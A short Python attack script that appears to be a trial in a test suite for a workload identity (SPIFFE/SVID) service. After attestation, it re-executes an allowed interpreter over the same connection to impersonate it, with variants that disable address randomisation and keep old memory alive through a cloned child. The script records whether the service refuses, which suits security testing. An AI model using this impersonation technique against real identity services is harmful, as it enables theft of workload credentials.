"""The allowed interpreter, having been given its SVID, executes itself with another script that goes on over the same connection.

plain     as it is
fixed     without address randomisation
keeper    without it, and with a child that keeps the old memory alive
"""

import ctypes
import os
import socket

from attacker import INTERPRETER, TRIALS, Reader, answer, argument, call, connect, family, libc, opening, say

ADDR_NO_RANDOMIZE = 0x0040000
CLONE_VM = 0x100


def execute(part, what, keeper):
    # Arguments of one length: they lie on the stack, and where that begins is a part of the layout.
    os.execv(INTERPRETER, [INTERPRETER, os.path.abspath(__file__), "%-6s" % part, "%-6s" % what, "%010d" % keeper])


def first(how):
    connection = connect()
    connection.sendall(opening() + call())
    reader = Reader(connection)
    reader.until_answer()
    if b"spiffe://" not in reader.all:
        return reader.say()  # refused before it came to anything: that is what the attack obtained
    keeper = 0
    if how == "keeper":
        stack = ctypes.create_string_buffer(65536)
        top = (ctypes.addressof(stack) + 65536) & ~15
        keeper = libc.clone(ctypes.cast(libc.sleep, ctypes.c_void_p), ctypes.c_void_p(top), CLONE_VM, ctypes.c_void_p(60))
    os.set_inheritable(connection.fileno(), True)
    execute("second", connection.fileno(), keeper)


def second(descriptor, keeper):
    connection = socket.socket(fileno=descriptor)
    try:
        connection.sendall(call(3))
        answer(connection, 3)
    except OSError as error:
        say(nothing=str(error))
    if keeper:
        os.kill(keeper, 9)


def trial(how):
    if how != "plain":
        libc.personality(ADDR_NO_RANDOMIZE)
    execute("first", how, 0)


if argument().strip() == "first":
    first(argument(2).strip())
elif argument() == "second":
    second(int(argument(2)), int(argument(3)))
else:
    for _ in range(TRIALS):
        family(lambda: trial(argument()), through_exec=True)
